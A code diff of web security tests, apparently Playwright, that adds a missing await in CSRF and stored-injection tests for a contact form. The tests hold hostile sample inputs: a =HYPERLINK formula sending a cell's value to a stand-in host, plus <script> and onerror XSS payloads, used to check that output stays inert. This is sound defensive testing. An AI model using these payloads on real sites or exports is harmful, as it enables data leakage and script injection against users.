@@ -101,7 +101,7 @@ test("a session ends after 8 hours idle and 7 days after sign-in", async ({ requ
 });
 
 test("a request from another site changes nothing, even with the trainer's session", async ({ request }) => {
-  const tokens = pastTheTimeTrap(await formTokens(request));
+  const tokens = await pastTheTimeTrap(await formTokens(request));
   const name = `Ofiara CSRF ${Date.now()}`;
   expect(
     (
@@ -136,7 +136,7 @@ test("a request from another site changes nothing, even with the trainer's sessi
 });
 
 test("a stored <script> and =HYPERLINK(…) are shown as text and exported inert", async ({ page, request }) => {
-  const tokens = pastTheTimeTrap(await formTokens(request));
+  const tokens = await pastTheTimeTrap(await formTokens(request));
   const name = `=HYPERLINK("http://zly.example/?d="&A1;"Kliknij ${Date.now()}")`;
   const message = `<script>window.__xss = 1</script><img src="x" onerror="window.__xss = 2"> @SUM(1+1) dzień dobry`;
   expect((await request.post("/kontakt", { form: { name, email: "xss@example.com", message, ...tokens }, maxRedirects: 0 })).status()).toBe(303);
